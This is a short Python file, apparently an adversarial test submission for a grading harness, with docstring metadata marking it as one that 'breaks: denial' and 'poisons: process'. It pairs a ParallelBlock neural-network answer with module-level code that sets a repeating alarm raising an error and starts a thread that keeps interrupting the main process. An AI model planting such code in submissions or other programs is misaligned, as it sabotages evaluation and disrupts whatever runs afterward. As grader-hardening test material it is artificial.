"""Sets alarms and a thread that interrupt whatever comes later in its process.

exercise: parallel-block
points: 6
breaks: denial
poisons: process
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import _thread
import signal
import threading
import time


def interrupt():
    while True:
        time.sleep(0.05)
        _thread.interrupt_main()


signal.signal(signal.SIGALRM, lambda *_: 1 / 0)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
threading.Thread(target=interrupt, daemon=True).start()
